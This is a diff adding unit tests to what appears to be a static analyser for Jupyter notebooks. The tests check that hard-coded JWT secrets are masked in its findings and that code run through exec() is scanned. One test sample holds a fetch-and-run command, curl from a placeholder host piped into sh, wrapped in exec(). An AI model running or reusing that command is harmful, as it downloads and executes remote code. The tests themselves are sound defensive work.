@@ -221,3 +221,29 @@ CUPEL_TEST(otherLanguagesAreNoPython)
     bytes.replace(bytes.rfind(empty), empty.size(), R"("metadata": {"language_info": {"name": "R"}}, "nbformat")");
     CHECK(finding(test::analyzed(bytes), "EVAL") == nullptr);
 }
+
+CUPEL_TEST(keysInCodeAreMasked)
+{
+    const std::string key = "seldom" + std::string("-seen-") + "value";
+    const auto analysis = test::analyzed(notebook({"import jwt\nk = '" + key
+        + "'\njwt.encode({'a': 1}, k, algorithm='HS256')\nd['" + key + "'].execute(f'select {x} from t')"}));
+    const auto* found = finding(analysis, "JWT-SECRET-LITERAL");
+    REQUIRE(found != nullptr);
+    for (const auto& entry : analysis.findings) {
+        for (const auto& step : entry.evidence) {
+            if (entry.rule == "CUP-CODE-JWT-SECRET-LITERAL") {
+                CHECK(step.excerpt.find(key) == std::string::npos);
+            }
+        }
+        for (const auto& [name, value] : entry.arguments) {
+            CHECK(value.find(key) == std::string::npos);
+        }
+    }
+}
+
+CUPEL_TEST(whatExecRunsIsJudged)
+{
+    const auto analysis = test::analyzed(notebook({"exec(\"import os; os.system('curl https://x.example/a | sh')\")"}));
+    CHECK(finding(analysis, "CURL-PIPE-SHELL") != nullptr);
+    CHECK_EQ(analysis.findings.front().location.cellLine.value_or(0), 1);
+}
